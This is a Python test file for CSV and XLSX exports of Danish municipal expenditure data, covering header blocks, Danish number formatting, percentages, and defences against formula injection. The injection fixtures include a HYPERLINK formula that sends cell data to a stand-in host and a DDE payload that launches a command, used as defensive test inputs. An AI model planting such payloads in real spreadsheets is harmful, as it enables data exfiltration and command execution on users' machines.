"""Exports: header block, Danish CSV numbers, XLSX numbers stored as numbers."""
from __future__ import annotations

import io

import openpyxl
import polars as pl

from present.exports import Column, ExportMeta, to_csv, to_xlsx

DF = pl.DataFrame({"year": [2023, 2024], "net_dkk": [1234567.891, None], "area": ["5.38", "5.38"]})
COLS = [Column("year", "År"), Column("net_dkk", "Nettoudgift (kr.)", 2), Column("area", "Område")]
META = ExportMeta("Nettoudgift pr. år", {"Kommune": "Eksempelby Kommune", "Prisgrundlag": "Faste 2024-priser",
                                         "Kilde": "Regnskab", "Datadato": "23-11-2026"})


def test_csv_layout_and_danish_numbers():
    text = to_csv(DF, COLS, META).decode("utf-8-sig")
    assert text.splitlines() == [
        "Nettoudgift pr. år", "Kommune;Eksempelby Kommune", "Prisgrundlag;Faste 2024-priser", "Kilde;Regnskab",
        "Datadato;23-11-2026", "", "År;Nettoudgift (kr.);Område", "2023;1234567,89;5.38", "2024;;5.38",
    ]


def test_xlsx_header_block_and_numeric_cells():
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(DF, COLS, META)))
    ws = wb.active
    assert ws["A1"].value == "Nettoudgift pr. år"
    assert (ws["A3"].value, ws["B3"].value) == ("Prisgrundlag", "Faste 2024-priser")
    assert [c.value for c in ws[7]] == ["År", "Nettoudgift (kr.)", "Område"]
    assert ws["B8"].value == 1234567.891 and ws["B8"].number_format == "#,##0.00"
    assert ws["B9"].value is None and ws["C9"].value == "5.38"


def test_shares_are_exported_as_percentages():
    """A 'pct' column holds fractions: the file gives per cent with two fewer decimals and says '(%)'."""
    df = pl.DataFrame({"year": [2024, 2025], "change_pct": [0.123456, -0.0004]})
    cols = [Column("year", "År"), Column("change_pct", "Ændring", 4, kind="pct")]
    text = to_csv(df, cols, META).decode("utf-8-sig").splitlines()
    assert text[-3:] == ["År;Ændring (%)", "2024;12,35", "2025;-0,04"]
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, cols, META))).active
    assert ws["B7"].value == "Ændring (%)"
    assert ws["B8"].value == 12.3456 and ws["B8"].number_format == "#,##0.00"
    # a header that already names its unit keeps it once
    assert Column("c", "Dækning (%)", 1, kind="pct").export_header == "Dækning (%)"


# --- formula injection: text from data never runs in the spreadsheet that opens the export ---------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")", "+1+1", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR",
           "=cmd|' /C calc'!A0", "\uff1d1+1"]
HOSTILE_DF = pl.DataFrame({"name": HOSTILE + ["-1234,5", "Bostedet", "-"],
                           "amount": [-1234.5] * (len(HOSTILE) + 3)})
HOSTILE_COLS = [Column("name", "Leverandør"), Column("amount", "Beløb (kr.)", 2)]
HOSTILE_META = ExportMeta("=1+1 Titel", {"Kilde": "=HYPERLINK(\"http://evil.example\",\"PL\")", "@navn": "-x"})


def test_csv_text_cells_get_a_quote_and_numbers_stay_numbers():
    import csv as _csv

    lines = list(_csv.reader(io.StringIO(to_csv(HOSTILE_DF, HOSTILE_COLS, HOSTILE_META).decode("utf-8-sig"),
                                         newline=""), delimiter=";"))
    assert lines[0] == ["'=1+1 Titel"]
    assert lines[1] == ["Kilde", "'=HYPERLINK(\"http://evil.example\",\"PL\")"] and lines[2] == ["'@navn", "'-x"]
    body = lines[5:]
    assert [r[0] for r in body] == ["'" + h for h in HOSTILE] + ["-1234,5", "Bostedet", "'-"]
    assert {r[1] for r in body} == {"-1234,50"}          # a negative amount is a number, not quoted


def test_xlsx_text_is_never_a_formula():
    import zipfile

    data = to_xlsx(HOSTILE_DF, HOSTILE_COLS, HOSTILE_META)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["B2"].value == "=HYPERLINK(\"http://evil.example\",\"PL\")" and ws["B2"].data_type == "s"
    assert ws["B2"].quotePrefix and ws["A1"].quotePrefix
    names = [ws.cell(6 + i, 1) for i in range(len(HOSTILE) + 3)]
    # openpyxl leaves the carriage return in the XML escape xlsxwriter writes it as
    assert [c.value.replace("_x000D_", "\r") for c in names] == HOSTILE + ["-1234,5", "Bostedet", "-"]
    assert all(c.data_type == "s" for c in names)
    assert [c.quotePrefix for c in names] == [True] * len(HOSTILE) + [False, False, True]
    assert ws.cell(6, 2).value == -1234.5 and ws.cell(6, 2).data_type == "n"
